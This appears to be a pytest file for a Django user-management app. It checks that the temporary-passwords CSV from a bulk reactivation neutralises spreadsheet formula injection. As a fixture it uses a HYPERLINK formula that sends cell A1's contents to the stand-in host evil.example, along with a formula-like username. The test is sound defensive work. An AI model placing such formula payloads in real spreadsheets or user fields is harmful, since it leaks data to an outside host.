"""The bulk-reactivation passwords file goes through the exports' neutralising writer: a
name or username a spreadsheet would run as a formula is written as plain text."""

import csv
import io

import pytest

from tests.users.helpers import bulk, sign_in
from users import services
from users.models import User

pytestmark = pytest.mark.django_db


def test_bulk_reactivation_passwords_file_neutralises_formulas(client, admin_user, make_user):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    person = make_user(username="-2+3", email="", first_name=formula, last_name="")
    services.users_deactivate(User.objects.filter(pk=person.pk), by=admin_user, reason="t")
    sign_in(client, admin_user)

    response = bulk(client, "reactivate_selected", [person], confirm=True)
    download = client.get(response.context["download_url"])

    assert "no-store" in download["Cache-Control"]
    body = download.content.decode("utf-8-sig")
    (row,) = list(csv.DictReader(io.StringIO(body)))
    assert row["username"] == "'-2+3"
    assert row["name"] == "'" + formula
    assert len(row["temporary_password"]) == 12
    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
